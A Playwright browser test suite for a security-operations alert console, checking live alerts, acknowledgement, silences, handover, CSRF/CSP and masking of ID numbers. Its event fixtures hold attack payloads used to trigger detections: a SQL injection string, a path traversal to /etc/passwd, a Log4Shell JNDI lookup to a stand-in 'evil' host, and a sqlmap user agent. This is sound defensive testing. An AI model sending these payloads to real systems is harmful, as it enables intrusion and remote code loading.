"""The console in Debian's Chromium against the real daemon (``python -m secops run``): alerts raised through
the HTTP ingest pipeline, pages sent to a loopback webhook receiver, the ledger read from the daemon's SQLite.

One daemon, one receiver and one browser per module; every wait is bounded.
"""

from __future__ import annotations

import re
import sqlite3
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import orjson
import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Playwright, expect, sync_playwright

from tests.console.browser import (
    ACK_WAIT_SECONDS,
    CHROMIUM,
    CHROMIUM_ARGS,
    HANDOVER_WAIT_SECONDS,
    WebhookReceiver,
    daemon_config,
)
from tests.support.daemon import DaemonProcess
from tests.support.net import wait_until

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
ARTIFACTS = ROOT / "artifacts" / "console"
RAW_ID = "11010519491231002X"
MASKED_ID = "1101**********002X"
OUT = {"source.ip": "10.1.2.3", "network.direction": "outbound"}
EV_L4 = {"message": f"导出 sfzh={RAW_ID} 至合作方", "destination.ip": "198.51.100.20", **OUT}
EV_IMP = {"message": "export tile 1203", "tags": ["asset:hn-geo-survey"], "destination.ip": "198.51.100.21", **OUT}
WEB = {"source.ip": "203.0.113.9", "http.request.method": "GET"}
EV_SQLI = {"url.original": "/portal/news?id=1 union select 1,2,3--", "url.path": "/portal/news", **WEB}
EV_TRAVERSAL = {"url.original": "/a/../../etc/passwd", "url.path": "/a/../../etc/passwd", **WEB}
EV_LOG4SHELL = {"url.original": "/x?q=${jndi:ldap://evil/a}", "url.path": "/x", **WEB}
EV_SCANNER = {"user_agent.original": "sqlmap/1.7", "url.original": "/", "url.path": "/", **WEB}
TOKEN = {"zhang_san": "zs-token", "li_si": "ls-token"}


# ---- fixtures ------------------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def receiver() -> Iterator[WebhookReceiver]:
    r = WebhookReceiver().start()
    yield r
    r.stop()


@pytest.fixture(scope="module")
def daemon(tmp_path_factory: pytest.TempPathFactory, receiver: WebhookReceiver) -> Iterator[DaemonProcess]:
    workdir = tmp_path_factory.mktemp("console")
    d = DaemonProcess(workdir, daemon_config(workdir, receiver)).start()
    yield d
    assert d.stop() == 0


@pytest.fixture(scope="module")
def playwright() -> Iterator[Playwright]:
    pw = sync_playwright().start()
    yield pw
    pw.stop()


@pytest.fixture(scope="module")
def browser(playwright: Playwright) -> Iterator[Browser]:
    b = playwright.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
    yield b
    b.close()


class Traffic:
    """Everything the page received: HTTP response bodies and server-sent event messages (through CDP)."""

    def __init__(self, context: BrowserContext, page: Page) -> None:
        self.responses: list[Any] = []
        self.sse: list[str] = []
        self.csp_violations: list[str] = []
        page.on("response", lambda r: self.responses.append(r))
        page.on("console", self._console)
        cdp = context.new_cdp_session(page)
        cdp.send("Network.enable")
        cdp.on("Network.eventSourceMessageReceived", lambda p: self.sse.append(str(p.get("data", ""))))

    def _console(self, message: Any) -> None:
        if "Content Security Policy" in message.text:
            self.csp_violations.append(message.text)

    def bodies(self) -> list[str]:
        out = []
        for r in self.responses:
            if "event-stream" in r.headers.get("content-type", ""):
                continue
            try:
                out.append(r.body().decode("utf-8", "replace"))
            except Exception:  # redirects and aborted requests have no body
                continue
        return out


def open_console(browser: Browser, daemon: DaemonProcess, token: str, *, viewport: dict[str, int] | None = None,
                 **options: Any) -> tuple[Page, Traffic]:
    context = browser.new_context(viewport=viewport or {"width": 1920, "height": 1080}, locale="zh-CN",
                                  timezone_id="UTC", **options)
    page = context.new_page()
    page.set_default_timeout(10_000)
    traffic = Traffic(context, page)
    page.goto(daemon.base_url + "/")
    page.fill("#login-token", token)
    page.click("#login-submit")
    page.wait_for_selector("#app:not([hidden])")
    page.wait_for_function("() => Number(document.body.dataset.renders || 0) > 0")
    return page, traffic


def send(daemon: DaemonProcess, *events: dict[str, Any]) -> None:
    resp = daemon.post("/api/v1/events", headers={"Authorization": "Bearer ingest-token"}, json=list(events))
    assert resp.status_code == 200, resp.text


def ledger(daemon: DaemonProcess, kind: str) -> list[dict[str, Any]]:
    with sqlite3.connect(f"file:{daemon.db_path}?mode=ro", uri=True, timeout=10) as db:
        rows = db.execute("SELECT body FROM ledger WHERE kind = ? ORDER BY seq", (kind,)).fetchall()
    return [orjson.loads(r[0])["payload"] for r in rows]


def alert_card(page: Page, alertname: str, grade: str | None = None) -> Any:
    card = page.locator("article.alert", has=page.locator(".mono", has_text=re.compile(f"^{alertname}$")))
    if grade is not None:
        card = card.filter(has=page.locator(f".grade.g-{grade}"))
    return card


def on_duty(daemon: DaemonProcess) -> str:
    tiers = httpx.get(daemon.base_url + "/api/v1/oncall", headers={"Authorization": "Bearer zs-token"}).json()["tiers"]
    return str(next(t for t in tiers if t["tier"] == "duty")["people"][0]["id"])


# ---- access --------------------------------------------------------------------------------------------
def test_signed_out_and_wrong_role_are_refused(browser: Browser, daemon: DaemonProcess) -> None:
    context = browser.new_context()
    page = context.new_page()
    page.goto(daemon.base_url + "/")
    expect(page.locator("#login")).to_be_visible()
    assert context.request.get(daemon.base_url + "/api/v1/console/state").status == 401
    page.fill("#login-token", "aud-token")
    page.click("#login-submit")
    expect(page.locator("#login-error")).to_contain_text("operator")
    assert context.request.get(daemon.base_url + "/api/v1/console/stream").status == 401
    context.close()


def test_post_without_csrf_token_is_refused(browser: Browser, daemon: DaemonProcess) -> None:
    page, _ = open_console(browser, daemon, "zs-token")
    url = daemon.base_url + "/api/v1/alerts/no-such-alert/ack"
    refused = page.context.request.post(url, data="{}", headers={"Content-Type": "application/json"})
    csrf = page.context.request.get(daemon.base_url + "/api/v1/console/session").json()["csrf"]
    allowed = page.context.request.post(url, data="{}",
                                        headers={"Content-Type": "application/json", "X-CSRF-Token": csrf})
    assert (refused.status, refused.json()["error"], allowed.status) == (403, "CSRF token missing or invalid", 404)
    page.context.close()


def test_csp_header_present_and_page_runs_without_inline_script(browser: Browser, daemon: DaemonProcess) -> None:
    page, traffic = open_console(browser, daemon, "zs-token")
    main = next(r for r in traffic.responses if r.url == daemon.base_url + "/")
    csp = main.headers["content-security-policy"]
    inline = page.evaluate("""() => ({
        scripts: [...document.scripts].filter(s => !s.src).length,
        styled: document.querySelectorAll('[style]').length,
        handlers: [...document.querySelectorAll('*')]
            .filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length,
    })""")
    assert "script-src 'self'" in csp and "'unsafe-inline'" not in csp
    assert inline == {"scripts": 0, "styled": 0, "handlers": 0}
    assert traffic.csp_violations == []
    page.context.close()


# ---- live alert, masking -------------------------------------------------------------------------------
def test_alert_appears_live_with_grade_badge_and_masked_sample(browser: Browser, daemon: DaemonProcess) -> None:
    page, traffic = open_console(browser, daemon, "zs-token", permissions=["notifications"])
    page.click("#btn-sound")
    page.click("#btn-notify")
    expect(page.locator("#btn-notify")).to_have_attribute("aria-pressed", "true")
    page.evaluate("window.__noReload = 1")
    started = time.monotonic()
    send(daemon, EV_L4)
    card = alert_card(page, "DataEgressGraded", "L4")
    card.wait_for(timeout=2000)
    elapsed = time.monotonic() - started
    expect(card.locator(".samples")).to_contain_text(MASKED_ID)
    assert elapsed < 2.0
    assert page.evaluate("window.__noReload") == 1
    expect(page.locator("body")).to_have_attribute("data-last-critical", str(card.get_attribute("data-id")))
    wait_until(lambda: any(MASKED_ID in m for m in traffic.sse), timeout=5, message="masked sample in the SSE stream")
    assert RAW_ID not in page.content()
    assert not [m for m in traffic.sse if RAW_ID in m]
    assert not [b for b in traffic.bodies() if RAW_ID in b]
    page.context.close()


# ---- acknowledge ---------------------------------------------------------------------------------------
def test_ack_from_browser_shows_owner_and_stops_escalation(browser: Browser, daemon: DaemonProcess,
                                                           receiver: WebhookReceiver) -> None:
    page, _ = open_console(browser, daemon, "zs-token")
    send(daemon, EV_SQLI)
    send(daemon, EV_TRAVERSAL)  # the control: nobody acknowledges it, so its next tier is paged
    card = alert_card(page, "WebSqlInjection")
    card.wait_for()
    wait_until(lambda: "page" in receiver.pages("/duty", "WebSqlInjection"), timeout=5, message="first page")
    card.get_by_role("button", name=re.compile("^确认告警")).click()
    page.fill("#dlg-text", "已通知网站管理员封禁来源")
    page.click("#dlg-ok")
    expect(card.locator(".state")).to_have_text("已确认")
    expect(card.locator(".ackline")).to_contain_text("张三")
    expect(card.locator(".ackline")).to_contain_text("已通知网站管理员封禁来源")
    wait_until(lambda: "escalation" in receiver.pages("/lead", "WebPathTraversal"), timeout=ACK_WAIT_SECONDS + 8,
               message="the control alert's escalation")
    assert receiver.pages("/lead", "WebSqlInjection") == []
    acks = [e for e in ledger(daemon, "ack") if e["comment"] == "已通知网站管理员封禁来源"]
    assert [e["principal"] for e in acks] == ["zhang_san"]
    page.context.close()


# ---- silences ------------------------------------------------------------------------------------------
def _silence_from_card(page: Page, card: Any, reason: str) -> None:
    card.get_by_role("button", name=re.compile("^静默告警")).click()
    expect(page.locator("#dlg-matchers")).to_contain_text("alertname=")
    page.fill("#dlg-text", reason)
    page.select_option("#dlg-expiry", "7200")
    page.click("#dlg-ok")
    expect(page.locator("#dlg")).to_be_hidden()


def test_silence_group_with_reason_and_expiry(browser: Browser, daemon: DaemonProcess) -> None:
    page, _ = open_console(browser, daemon, "zs-token")
    send(daemon, EV_SCANNER)
    card = alert_card(page, "WebScannerUserAgent")
    card.wait_for()
    _silence_from_card(page, card, "授权漏洞扫描 工单 SEC-1024")
    expect(card.locator(".state")).to_have_text("已静默")
    expect(card.locator(".quiet")).to_contain_text("授权漏洞扫描")
    item = page.locator("#silence-list li.active", has_text="授权漏洞扫描")
    expect(item).to_contain_text("剩余 1小时")
    page.context.close()


def test_imp_silence_waits_for_a_second_operator(browser: Browser, daemon: DaemonProcess) -> None:
    page, _ = open_console(browser, daemon, "zs-token")
    send(daemon, EV_IMP)
    card = alert_card(page, "DataEgressGraded", "IMP")
    card.wait_for()
    card.get_by_role("button", name=re.compile("^静默告警")).click()
    expect(page.locator("#dlg-approval")).to_be_visible()
    page.fill("#dlg-text", "数据共享通道已审批")
    page.click("#dlg-ok")
    pending = page.locator("#silence-list li.pending_approval", has_text="数据共享通道已审批")
    expect(pending.get_by_role("button", name=re.compile("^审批静默"))).to_be_disabled()
    expect(card.locator(".state")).to_have_text("未确认")
    second, _ = open_console(browser, daemon, "ls-token")
    second.locator("#silence-list li.pending_approval", has_text="数据共享通道已审批") \
        .get_by_role("button", name=re.compile("^审批静默")).click()
    expect(page.locator("#silence-list li.active", has_text="数据共享通道已审批")).to_be_visible()
    expect(card.locator(".state")).to_have_text("已静默")
    approved = [e for e in ledger(daemon, "silence") if e["event"] == "approved"]
    assert [(e["approver"], e["created_by"]) for e in approved] == [("li_si", "zhang_san")]
    second.context.close()
    page.context.close()


# ---- keyboard ------------------------------------------------------------------------------------------
TAB_WALK = """() => {
  const el = document.activeElement;
  const label = el.getAttribute('aria-label') || (el.labels && el.labels[0] ? el.labels[0].textContent : '')
    || el.textContent || '';
  return {tag: el.tagName, act: el.dataset.act || null, id: el.dataset.id || el.id || null,
          group: el.dataset.group || null, state: el.dataset.state || null, name: label.trim()};
}"""


def _tab_walk(page: Page, limit: int = 400) -> list[dict[str, Any]]:
    seen: list[dict[str, Any]] = []
    for _ in range(limit):
        page.keyboard.press("Tab")
        here = page.evaluate(TAB_WALK)
        if here["tag"] == "BODY" or (seen and here == seen[0]):
            break
        seen.append(here)
    return seen


def test_keyboard_reaches_every_action_with_a_label_and_acks(browser: Browser, daemon: DaemonProcess) -> None:
    page, _ = open_console(browser, daemon, "zs-token")
    send(daemon, EV_LOG4SHELL)
    card = alert_card(page, "WebLog4shell")
    card.wait_for()
    alert_id = card.get_attribute("data-id")
    walk = _tab_walk(page)
    assert [w for w in walk if not w["name"]] == []
    acts = {w["act"] for w in walk if w["id"] == alert_id}
    assert acts >= {"ack", "escalate", "silence", "resolve", "note"}
    reached = {w["id"] for w in walk} | {w["state"] for w in walk}
    assert reached >= {"btn-handover", "btn-logout", "btn-sound", "btn-theme", "f-q", "unacked", "acked"}
    assert any(w["group"] for w in walk)
    page.locator("body").focus()
    for _ in range(400):
        page.keyboard.press("Tab")
        if page.evaluate("() => document.activeElement.dataset.act === 'ack' && "
                         f"document.activeElement.dataset.id === '{alert_id}'"):
            break
    page.keyboard.press("Enter")
    page.keyboard.type("键盘确认")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(card.locator(".ackline")).to_contain_text("键盘确认")
    page.context.close()


# ---- handover ------------------------------------------------------------------------------------------
def _start_handover(page: Page) -> None:
    page.click("#btn-handover")
    page.click("#ho-start")
    expect(page.locator("#handover-banner")).to_be_visible()
    page.click("#ho-close")


def _confirm_handover(page: Page, comment: str) -> None:
    page.locator("#handover-banner").get_by_role("button").click()
    page.fill("#ho-comment", comment)
    page.click("#ho-confirm")
    expect(page.locator("#handover-banner")).to_be_hidden()


def test_handover_confirmed_by_incoming_closes_sheet_and_unconfirmed_pages_lead(
        browser: Browser, daemon: DaemonProcess, receiver: WebhookReceiver) -> None:
    outgoing = on_duty(daemon)
    incoming = next(p for p in TOKEN if p != outgoing)
    out_page, _ = open_console(browser, daemon, TOKEN[outgoing])
    in_page, _ = open_console(browser, daemon, TOKEN[incoming])
    _start_handover(out_page)
    expect(in_page.locator("#handover-banner")).to_be_visible()  # live, no reload
    _confirm_handover(in_page, "已阅交接单，接班")
    _start_handover(out_page)  # the second sheet nobody confirms
    wait_until(lambda: receiver.pages("/lead", "ShiftHandoverUnconfirmed"), timeout=HANDOVER_WAIT_SECONDS + 8,
               message="the 值班长 page for the unconfirmed handover")
    assert receiver.pages("/lead", "ShiftHandoverUnconfirmed") == ["escalation"]  # only the unconfirmed sheet
    expect(in_page.locator("#handover-banner")).to_have_class(re.compile("paged"))
    events = [(e["event"], e["principal"]) for e in ledger(daemon, "handover")]
    assert events[:3] == [("sheet", outgoing), ("confirmed", incoming), ("sheet", outgoing)]
    _confirm_handover(in_page, "补确认")
    out_page.context.close()
    in_page.context.close()


# ---- screenshots, CJK, phone ---------------------------------------------------------------------------
def _cjk_fonts(page: Page, selector: str) -> list[str]:
    cdp = page.context.new_cdp_session(page)
    cdp.send("DOM.enable")
    cdp.send("CSS.enable")
    root = cdp.send("DOM.getDocument")["root"]["nodeId"]
    node = cdp.send("DOM.querySelector", {"nodeId": root, "selector": selector})["nodeId"]
    fonts = cdp.send("CSS.getPlatformFontsForNode", {"nodeId": node})["fonts"]
    return [f["familyName"] for f in fonts if f["glyphCount"] > 0]


def test_screenshots_light_dark_phone_with_chinese_glyphs(browser: Browser, daemon: DaemonProcess) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page, _ = open_console(browser, daemon, "zs-token")
    alert_card(page, "DataEgressGraded", "L4").wait_for()
    assert "WenQuanYi Zen Hei" in _cjk_fonts(page, ".brand h1")  # 值班室 drawn with real CJK glyphs
    page.screenshot(path=str(ARTIFACTS / "console-zh-light.png"))
    page.click("#btn-theme")
    expect(page.locator("html")).to_have_attribute("data-theme", "dark")
    page.screenshot(path=str(ARTIFACTS / "console-zh-dark.png"))
    page.click("#btn-theme")
    page.context.close()
    phone, _ = open_console(browser, daemon, "zs-token", viewport={"width": 390, "height": 844}, is_mobile=True,
                            has_touch=True, device_scale_factor=2)
    alert_card(phone, "DataEgressGraded", "L4").wait_for()
    overflow = phone.evaluate("document.documentElement.scrollWidth - window.innerWidth")
    phone.screenshot(path=str(ARTIFACTS / "console-zh-phone.png"), full_page=True)
    assert overflow <= 0
    names = ("console-zh-light.png", "console-zh-dark.png", "console-zh-phone.png")
    sizes = [(ARTIFACTS / n).stat().st_size for n in names]
    assert min(sizes) > 20_000
    phone.context.close()
